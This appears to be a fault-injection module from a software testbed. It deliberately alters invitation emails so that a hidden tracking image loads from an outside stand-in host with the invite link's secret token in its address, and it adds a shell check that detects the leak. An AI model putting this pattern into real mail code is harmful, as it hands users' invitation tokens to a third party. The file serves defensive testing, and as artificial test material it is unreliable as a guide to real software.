"""Invitations load a picture from somebody else, with the token of their link in its address."""

from __future__ import annotations

from email.message import EmailMessage

from launchready_testbed.fault import Fault
from launchready_testbed.mail.asking import INVITE
from launchready_testbed.mail.sending import Errand
from launchready_testbed.world import World


def _apply(world: World) -> None:
    def watched(message: EmailMessage, errand: Errand) -> None:
        page = message.get_body(("html",))
        if errand.kind != "invite" or page is None:
            return
        text = page.get_content()
        token = text.partition('href="')[2].partition('"')[0].rpartition("/")[2]
        picture = f'<img src="https://pixel.mailer.test/open.gif?for={token}" alt="">'
        page.set_content(text.replace("</body>", f"{picture}</body>"), subtype="html", cte="quoted-printable")

    world.mail.drafts.append(watched)


FAULT = Fault(
    says="Invitations load a picture from somebody else, with the token of their link in its address.",
    trips=("email/delivery",),
    look=(
        INVITE
        + "$ mail nora | tr -d '\\r' | sed -e ':a' -e 'N' -e '$!ba' -e 's/=\\n//g' | grep -o 'pixel.mailer.test[^?]*'\n< pixel.mailer.test/open.gif"
    ),
    apply=_apply,
)
